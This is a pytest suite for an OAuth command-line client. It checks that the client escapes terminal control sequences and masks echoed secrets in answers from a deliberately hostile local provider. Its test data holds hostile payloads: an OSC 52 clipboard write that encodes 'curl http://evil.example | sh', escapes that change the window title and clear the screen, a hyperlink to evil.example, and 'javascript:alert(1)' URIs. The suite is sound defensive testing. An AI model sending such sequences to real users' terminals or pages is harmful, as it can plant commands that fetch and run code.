"""A provider whose every answer carries terminal controls and echoed secrets, through every command.

The provider is a real HTTP server on 127.0.0.1 (``scripted``). Its metadata, token answers,
errors, authorize redirects, login page, JWKS, introspection answers and the token it issued
carry ESC sequences (OSC 52 clipboard writes, window titles, CSI), C1 controls, ``\\r``
overwrites, bidi overrides and zero-width characters, plus a secret echoed by name and the
client secret echoed by value. Whatever the command and whether ``--json`` or not, stdout and
stderr must hold no character a terminal acts on and none of those secrets.
"""

from __future__ import annotations

import base64
import io
import json
import sys
import unicodedata
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest

from tests.support.canaries import CANARY_SECRET
from tests.support.servers import Reply
from widgets.cli.main import EXIT_OK, main
from widgets.cli.output import json_terminal_safe, scrub_except, terminal_safe

SECRET_ENV = "WEBHOOK_LAB_HOSTILE_SECRET"

#: Everything a terminal acts on rather than shows, in one provider string.
CONTROLS = (
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07"  # OSC 52: write the clipboard
    "\x1b]0;owned\x1b\\"  # OSC 0: the window title, ended by ST
    "\x1b[2J\x1b[1;31m\x1b[8m"  # CSI: clear the screen, red, hidden text
    "\x9b6n\x9d8;;http://evil.example\x9c"  # C1: CSI, OSC (a hyperlink), ST
    "all fine\rFAKE"  # \r: the rest overwrites the line
    "\u202egnp.exe\u202c \u2066iso\u2069 \u200bzero\u200dwidth\ufeff\u2028\u2029\x08\x7f\x00\x05"
)
#: What a provider may echo that must be masked on the way out (by name; by value: the client secret).
ECHOED = "canary-ECHOED-5b7d9f1e3a"
HOSTILE = CONTROLS + f" password={ECHOED} " + CANARY_SECRET + " " + CONTROLS
#: A token whose last four characters (the part mask() shows) are an ESC sequence.
TOKEN = "canary-TOKEN-0123456789abcdef\x1b[2J"


def _acted_on(text: str) -> list[str]:
    """The characters of ``text`` a terminal acts on (newline and tab are written by the CLI)."""
    return [c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")]


def b64url(data: dict) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def hostile_jwt() -> str:
    header = {"alg": "RS256", "kid": HOSTILE, "typ": CONTROLS}
    claims = {"iss": HOSTILE, "sub": HOSTILE, "aud": [HOSTILE], "scope": HOSTILE, "client_id": HOSTILE,
              "exp": 4102444800, "iat": 1700000000, HOSTILE: HOSTILE, "password": ECHOED}
    return f"{b64url(header)}.{b64url(claims)}.c2lnbmF0dXJl"


class HostileProvider:
    """Routes of ``scripted`` that answer every request with HOSTILE text."""

    def __init__(self, scripted, *, token_ok: bool = True):
        self.server = scripted
        base = scripted.base
        self.issuer = base
        self.token_ok = token_ok
        scripted.routes["/.well-known/oauth-authorization-server"] = Reply(200, {
            "issuer": base,
            "authorization_endpoint": base + "/authorize",
            "token_endpoint": base + "/token",
            "jwks_uri": base + "/jwks",
            "introspection_endpoint": base + "/introspect",
            "scopes_supported": [HOSTILE, "alerts:write"],
            "grant_types_supported": ["authorization_code", "client_credentials", HOSTILE],
            "token_endpoint_auth_methods_supported": ["client_secret_basic", "client_secret_post", HOSTILE],
            "code_challenge_methods_supported": ["S256", HOSTILE],
            "response_types_supported": ["code", HOSTILE],
        })
        scripted.routes["/token"] = self._token
        scripted.routes["/authorize"] = self._authorize
        scripted.routes["/jwks"] = Reply(200, {"keys": [{"kty": "RSA", "kid": HOSTILE, "n": "AQAB", "e": "AQAB"}]})
        scripted.routes["/introspect"] = Reply(401, {"error": HOSTILE, "error_description": HOSTILE,
                                                     "error_uri": "javascript:alert(1)//" + CONTROLS})

    def _token(self, seen: dict) -> Reply:
        form = parse_qs(seen["body"])
        authenticated = "authorization" in {k.lower() for k in seen["headers"]} or "client_secret" in form
        if self.token_ok and authenticated:
            return Reply(200, {"access_token": TOKEN, "token_type": "Bearer", "expires_in": 3600,
                               "scope": HOSTILE, "refresh_token": "canary-REFRESH-0123456789\x1b]52;c;eA==\x07"})
        return Reply(401 if not authenticated else 400, {
            "error": HOSTILE, "error_description": HOSTILE, "error_uri": "javascript:alert(1)//" + CONTROLS})

    def _authorize(self, seen: dict) -> Reply:
        query = {k: v[0] for k, v in parse_qs(urlsplit(seen["url"]).query).items()}
        if "state" in query and "code_challenge" in query:  # the complete request: a login page
            page = f"<html><head><title>{HOSTILE}</title></head><body>{HOSTILE}</body></html>"
            return Reply(200, page, content_type="text/html; charset=utf-8")
        answer = {"error": HOSTILE, "error_description": HOSTILE, "error_uri": "javascript:alert(1)"}
        if "state" in query:
            answer["state"] = query["state"]
        return Reply(302, b"", headers={"Location": f"{query.get('redirect_uri', '')}?{urlencode(answer)}"})


@pytest.fixture
def hostile(scripted, monkeypatch, tmp_path):
    monkeypatch.setenv(SECRET_ENV, CANARY_SECRET)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return HostileProvider(scripted)


def run(capsys, *argv, stdin: str | None = None, monkeypatch=None):
    if stdin is not None:
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_clean(*texts: str, secret_read: bool = True) -> None:
    """No control, no echoed secret; the client secret too when the command read it (discover does not)."""
    for text in texts:
        assert _acted_on(text) == [], f"terminal controls reached the terminal: {_acted_on(text)[:8]}"
        if secret_read:
            assert CANARY_SECRET not in text and "canary-SECRET" not in text
        assert ECHOED not in text
        assert TOKEN[:-4] not in text and "canary-REFRESH-0123456789" not in text


def client(hostile, *extra):
    return ["--client-id", "c", "--client-secret-env", SECRET_ENV, *extra]


MODES = [[], ["--json"]]


@pytest.mark.parametrize("mode", MODES, ids=["text", "json"])
def test_discover_shows_hostile_metadata_escaped_and_scrubbed(capsys, hostile, mode):
    code, out, err = run(capsys, "discover", hostile.issuer, *mode)
    assert code == EXIT_OK, err
    assert_clean(out, err, secret_read=False)
    if mode:
        scopes = json.loads(out)["metadata"]["scopes_supported"]
        assert scopes[1] == "alerts:write" and scopes[0].startswith(CONTROLS)  # the same data, escaped in transit
        assert "\\u001b]52;c;" in out and "\\u202e" in out and "\\u009b" in out
    else:
        assert "\\x1b]52;c;" in out and "\\u202egnp.exe" in out and "all fine\\rFAKE" in out  # shown, not dropped
        assert "password=****" in out


@pytest.mark.parametrize("mode", MODES, ids=["text", "json"])
def test_probe_shows_hostile_answers_escaped_and_scrubbed(capsys, hostile, mode):
    code, out, err = run(capsys, "probe", "--issuer", hostile.issuer, *client(hostile), *mode)
    assert code == EXIT_OK, err
    assert_clean(out, err)
    assert len(hostile.server.requests_to("/authorize")) >= 3 and len(hostile.server.requests_to("/token")) >= 3


@pytest.mark.parametrize("mode", MODES, ids=["text", "json"])
@pytest.mark.parametrize("extra", [[], ["--paste-ready"], ["--paste-ready", "--reveal"]], ids=["", "paste", "reveal"])
def test_token_with_hostile_fields_is_escaped_and_scrubbed(capsys, hostile, mode, extra):
    code, out, err = run(capsys, "token", "--issuer", hostile.issuer, *client(hostile), *extra, *mode)
    assert code == EXIT_OK, err
    if "--reveal" in extra:
        assert_clean(err)
        assert _acted_on(out) == []
        shown = json.loads(out)["token"]["access_token"] if mode else out
        assert (TOKEN in shown) if mode else (terminal_safe(TOKEN) in shown)  # revealed, yet escaped
        assert ECHOED not in out
    else:
        assert_clean(out, err)


@pytest.mark.parametrize("mode", MODES, ids=["text", "json"])
def test_a_hostile_token_error_is_escaped_and_scrubbed(capsys, hostile, mode):
    hostile.token_ok = False
    code, out, err = run(capsys, "token", "--issuer", hostile.issuer, *client(hostile), *mode)
    assert code == 3
    assert_clean(out, err)
    shown = json.loads(out)["error"]["message"] if mode else err
    assert "owned" in shown  # the provider's words are still shown


@pytest.mark.parametrize("mode", MODES, ids=["text", "json"])
def test_authorize_and_a_denied_exchange_are_escaped_and_scrubbed(capsys, hostile, monkeypatch, mode, tmp_path):
    state_file = tmp_path / "pending.json"
    code, out, err = run(capsys, "authorize", "--issuer", hostile.issuer, *client(hostile),
                         "--state-file", str(state_file), "--json")
    assert code == EXIT_OK, err
    assert_clean(out, err)
    started = json.loads(out)
    answer = {"error": HOSTILE, "error_description": HOSTILE, "error_uri": "javascript:alert(1)",
              "state": started["state"]}
    pasted = f"{started['redirect_uri']}?{urlencode(answer)}"
    code, out, err = run(capsys, "exchange", "-", "--state-file", str(state_file), *client(hostile)[2:], *mode,
                         stdin=pasted, monkeypatch=monkeypatch)
    assert code == 3, err
    assert_clean(out, err)


@pytest.mark.parametrize("mode", MODES, ids=["text", "json"])
def test_an_exchange_refused_by_a_hostile_token_endpoint_is_escaped_and_scrubbed(capsys, hostile, monkeypatch,
                                                                                 mode, tmp_path):
    hostile.token_ok = False
    state_file = tmp_path / "pending.json"
    code, out, err = run(capsys, "authorize", "--issuer", hostile.issuer, *client(hostile),
                         "--state-file", str(state_file), "--json")
    started = json.loads(out)
    pasted = f"{started['redirect_uri']}?{urlencode({'code': 'a-code-1234567890', 'state': started['state']})}"
    code, out, err = run(capsys, "exchange", "-", "--state-file", str(state_file), *client(hostile)[2:], *mode,
                         stdin=pasted, monkeypatch=monkeypatch)
    assert code == 3, err
    assert hostile.server.requests_to("/token")
    assert_clean(out, err)


@pytest.mark.parametrize("mode", MODES, ids=["text", "json"])
def test_inspect_of_a_hostile_token_with_hostile_jwks_and_introspection(capsys, hostile, monkeypatch, mode):
    token = hostile_jwt()
    code, out, err = run(capsys, "inspect", "-", "--issuer", hostile.issuer, *client(hostile), *mode,
                         stdin=token, monkeypatch=monkeypatch)
    assert code in (EXIT_OK, 3), err
    assert hostile.server.requests_to("/jwks") and hostile.server.requests_to("/introspect")
    assert_clean(out, err)
    assert token not in out


# -- the functions, on their own ---------------------------------------------------------------------


def test_terminal_safe_escapes_each_kind_visibly_and_keeps_newlines_and_tabs():
    assert terminal_safe("a\nb\tc") == "a\nb\tc"
    assert terminal_safe("plain ascii and é ü 漢字 🙂") == "plain ascii and é ü 漢字 🙂"
    assert terminal_safe("\x1b]52;c;eA==\x07") == "\\x1b]52;c;eA==\\x07"
    assert terminal_safe("ok\rFAKE") == "ok\\rFAKE"
    assert terminal_safe("\x9b31m\x7f\x00") == "\\x9b31m\\x7f\\x00"
    assert terminal_safe("\u202eabc\u2066\u2069\u200b\ufeff\u2028") == "\\u202eabc\\u2066\\u2069\\u200b\\ufeff\\u2028"
    assert terminal_safe("\U000e0041tag") == "\\U000e0041tag"
    assert terminal_safe("\ud800") == "\\ud800"
    assert _acted_on(terminal_safe(HOSTILE)) == []


def test_json_terminal_safe_parses_to_the_same_data():
    data = {"s": HOSTILE + "\U000e0041\ud800", "k" + CONTROLS: [CONTROLS]}
    text = json_terminal_safe(json.dumps(data, ensure_ascii=False, indent=2))
    assert _acted_on(text) == []
    assert json.loads(text) == data


def test_scrub_except_keeps_what_is_shown_on_purpose_and_the_masked_forms():
    from widgets.core.redact import remember

    remember(TOKEN)
    assert TOKEN not in scrub_except(f"token {TOKEN}")
    assert scrub_except(f"token {TOKEN}", [TOKEN]) == f"token {TOKEN}"
    assert scrub_except("Token: ****abcd, password=hunter2hunter2") == "Token: ****abcd, password=****"
    assert scrub_except("secret=****abcdefghij") == "secret=****"  # not a mask: more than 4 characters follow
    assert scrub_except("type  Bearer\n  expires  soon; a Bearer token was issued") == \
        "type  Bearer\n  expires  soon; a Bearer token was issued"
    assert scrub_except("Authorization: Bearer abcdefghijklmnop") == "Authorization: Bearer ****mnop"
